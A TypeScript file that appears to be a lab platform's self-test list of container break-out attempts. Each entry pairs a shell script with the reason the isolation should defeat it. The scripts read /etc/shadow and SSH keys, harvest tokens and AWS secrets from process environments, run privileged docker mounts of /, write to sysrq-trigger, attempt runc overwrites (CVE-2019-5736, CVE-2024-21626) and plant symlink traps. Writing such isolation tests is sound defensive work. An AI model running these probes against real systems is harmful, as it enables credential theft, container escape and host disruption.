import { breakOut as attack, type BreakOut } from './attack.ts'
import { kernelBreakOuts } from './break-out-kernel.ts'

/** In this order on one host; the last leaves it as no other attack could use it. */
export const breakOuts: BreakOut[] = [
  ...kernelBreakOuts,
  attack(
    'machine-files',
    'read the machine’s users, keys, host keys, machine id, package lists and homes',
    'the host’s /etc is a curated copy, and nothing else of the machine but /usr is there',
    String.raw`
for path in /etc/shadow /etc/gshadow /etc/machine-id /var/lib/dbus/machine-id /etc/ssh /etc/apt /etc/sudoers /etc/fstab \
  /etc/hostid /var/lib/dpkg /var/lib/rpm /var/cache /var/mail /root/.ssh /boot /srv/* /mnt/* "$machine_file"; do reach ls -d "$path"; done
cut -d: -f1 /etc/passwd | grep -vxE 'root|daemon|tcpdump|student|nobody' | while read -r name; do got "user $name"; done
ls /home | grep -vx student | while read -r name; do got "home $name"; done`,
  ),
  attack(
    'machine-files-by-proc',
    'reach the machine’s files through /proc/*/root, /proc/*/cwd and open files of other processes',
    'a pid namespace of its own: it sees the host’s processes alone, and those hold nothing else',
    String.raw`
for process in /proc/[0-9]*; do
  for place in root cwd; do
    reach test -e "$process/$place/$machine_file"; reach test -e "$process/$place/run/lab"; reach test -e "$process/$place/opt/vethlab/agent.mjs"
  done
  for file in "$process"/fd/*; do case $(readlink "$file") in /dev/* | /var/* | /run/docker* | /run/containerd* | /proc/* | socket:* | pipe:* | anon_inode:* | net:* | '') ;; *) got "$(readlink "$file")" ;; esac; done
done`,
  ),
  attack(
    'agent-files',
    'read the agent, the checks, their orders and the socket of the agent',
    'they are in the world, whose mount namespace the host does not share',
    String.raw`
for path in /run/lab /run/boot /opt/vethlab/agent.mjs /opt/vethlab/labs /opt/images /hosts /opt/node; do reach ls -d "$path"; done
reach grep -rql agent.sock /run /opt /var/lib/docker`,
  ),
  attack(
    'agent-ports',
    'find the agent’s API, Node’s inspector or an engine on the outside’s ports',
    'the outside listens on port 80 (and 53) alone; the agent’s API is a unix socket of the world',
    String.raw`
for port in 22 111 2375 2376 4243 5201 8080 9229 9230; do reach timeout 2 bash -c "exec 3<>/dev/tcp/203.0.113.1/$port"; done
curl -s -m 2 http://203.0.113.1/status | grep -q phase && got 'the agent answers'
true`,
  ),
  attack(
    'processes-of-the-world',
    'see, signal, trace or enter a process that is not the host’s',
    'pid and user namespaces of its own; whatever the agent sends in belongs to the world’s user namespace',
    String.raw`
for process in /proc/[0-9]*; do tr '\0' ' ' <"$process/cmdline"; echo; done 2>/dev/null | grep -E '[a]gent\.mjs|vethlab-[w]orld|[v]itest' && got 'a process of the world'
for kind in mnt net pid user ipc uts cgroup; do
  for process in /proc/[0-9]*; do [ "$(readlink "$process/ns/$kind")" != "$(eval echo "\$world_$kind")" ] || got "the world’s $kind namespace: $process"; done
done 2>/dev/null
reach nsenter -t 1 -m ls /run/lab
perl -e 'for (2 .. 40000) { kill 0, $_ and !-d "/proc/$_" and !-d "/proc/self/task/$_" and print "GOT a process without a folder: $_\n" }'`,
  ),
  attack(
    'abstract-sockets',
    'talk to a service of the machine through an abstract unix socket',
    'abstract names belong to a network namespace',
    String.raw`
reach perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack("S", AF_UNIX) . "\0" . $ARGV[0]) or exit 1' "$abstract_socket"
grep -q "@$abstract_socket" /proc/net/unix && got 'its name'
true`,
  ),
  attack(
    'environment',
    'find the instructor’s secrets in the environment of any process',
    'every program on a host starts with an environment of our own making',
    String.raw`
for process in /proc/[0-9]*; do tr '\0' '\n' <"$process/environ"; done 2>/dev/null | grep -E 'VETHLAB_SECRET|SSH_|TOKEN|AWS|DBUS' | while read -r line; do got "$line"; done`,
  ),
  attack(
    'machine-network',
    'reach the machine’s own addresses and networks',
    'the world has a network of its own, with no way to the machine’s',
    String.raw`
for address in $machine_addresses; do
  reach ping -c 1 -W 1 "$address"
  for port in 22 80 $machine_port; do reach timeout 1 bash -c "exec 3<>/dev/tcp/$address/$port"; done
done
reach timeout 2 bash -c "exec 3<>/dev/tcp/127.0.0.1/$machine_port"`,
  ),
  attack(
    'mount-propagation',
    'make mounts that others get to see',
    'nothing is shared with the world or the machine',
    String.raw`
grep -E ' (master|propagate_from):' /proc/self/mountinfo | while read -r line; do got "$line"; done
mount --make-rshared / && mount -t tmpfs evil /mnt && mkdir /mnt/evil; umount /mnt`,
  ),
  attack(
    'write-usr',
    'write to the machine’s programs: remount, overlay, bind mounts',
    'the mount’s flags are locked, and its files are nobody’s on the host',
    String.raw`
mkdir -p /tmp/upper /tmp/work /tmp/merged /tmp/copy
reach mount -o remount,rw /usr; reach mount -o remount,rw,bind /usr; reach touch /usr/bin/evil
mount --rbind /usr /tmp/copy; reach mount -o remount,rw,bind /tmp/copy; reach touch /tmp/copy/bin/evil; reach mount -o remount,suid,bind /tmp/copy
mount -t overlay -o lowerdir=/usr,upperdir=/tmp/upper,workdir=/tmp/work overlay /tmp/merged; reach touch /tmp/merged/bin/evil; umount /tmp/merged
reach unshare -m sh -c 'mount -o remount,rw /usr && touch /usr/bin/evil'; reach unshare -Urm sh -c 'mount -o remount,rw /usr && touch /usr/bin/evil'
for program in /usr/sbin/runc /usr/bin/runc /usr/sbin/dockerd /usr/bin/docker; do reach sh -c ": >>$program"; done; umount -l /tmp/copy; true`,
  ),
  attack(
    'nested-user-namespaces',
    'become somebody else by user namespaces in user namespaces',
    'a child can map only ids that its parent has; the machine’s root and the world’s are not among them',
    String.raw`
unshare -U sleep 20 & child=$!
for try in 1 2 3 4 5 6 7 8 9 10; do [ "$(readlink "/proc/$child/ns/user")" != "$(readlink /proc/self/ns/user)" ] && break; sleep 0.05; done
for line in '0 65535 1' '0 65536 1' '0 100000 65536' '0 4294967294 1'; do reach sh -c "echo $line >/proc/$child/uid_map"; done
kill $child
unshare -Ur unshare -Ur unshare -Ur sh -c 'cat /etc/shadow || mount -o remount,rw /usr || echo b >/proc/sysrq-trigger' >/dev/null 2>&1 && got 'something three levels down'
true`,
  ),
  attack(
    'privileged-containers',
    'use docker’s own ways out: --privileged, -v /:/host, --pid host, --network host, --device',
    'they lead to the lab host, which is what they ask for',
    String.raw`
docker run --rm --privileged --pid host --network host -v /:/host base sh -c '
  for path in /host/run/lab /host/opt/vethlab/agent.mjs /host/etc/shadow /host/boot; do [ ! -e $path ] || echo GOT $path; done
  mknod /dev/evil b 8 0 2>/dev/null && echo GOT a device
  echo b >/proc/sysrq-trigger && echo GOT sysrq
  chroot /host sh -c "mount -o remount,rw /usr && echo GOT /usr"' 2>/dev/null
for device in /dev/mem /dev/kmsg /dev/vda /dev/sda; do reach docker run --rm --device "$device" base true; done
reach docker run --rm --privileged -v "$machine_file:/it" base cat /it`,
  ),
  attack(
    'runc-on-the-way',
    'overwrite runc through /proc/self/exe, or keep a folder that it has open (CVE-2019-5736, CVE-2024-21626)',
    'the program is a read-only file of the machine, and a container’s folder is the host’s at most',
    String.raw`
docker run -d --name bait base sh -c 'cp /bin/busybox /tmp/b; while :; do for p in /proc/[0-9]*; do case $(readlink $p/exe) in *runc*) : >>$p/exe && echo GOT runc; esac; done 2>/dev/null; done' >/dev/null
for try in 1 2 3; do docker exec bait /proc/self/exe >/dev/null 2>&1; done
docker logs bait 2>&1 | grep GOT; docker rm -f bait >/dev/null
for number in 3 6 7 8 9; do docker run --rm -w "/proc/self/fd/$number" base sh -c 'for up in . .. ../.. ../../.. ../../../..; do [ ! -e $up/run/lab ] || echo GOT the world; done' 2>/dev/null; done
true`,
  ),
  attack(
    'links-for-the-agent',
    'lead the agent to its own files by links where it reads on the host',
    'it follows links inside the host’s root only, by handles, and waits for no pipe',
    String.raw`
mkdir -p /root/kept; cp /etc/passwd /etc/group /root/kept
rm -rf /run/netns; ln -s /run/lab /run/netns
ln -sf /run/lab/orders.json /etc/passwd; rm -f /etc/group; mkfifo /etc/group
rm -rf /root/results; ln -s /run/lab /root/results`,
  ),
]
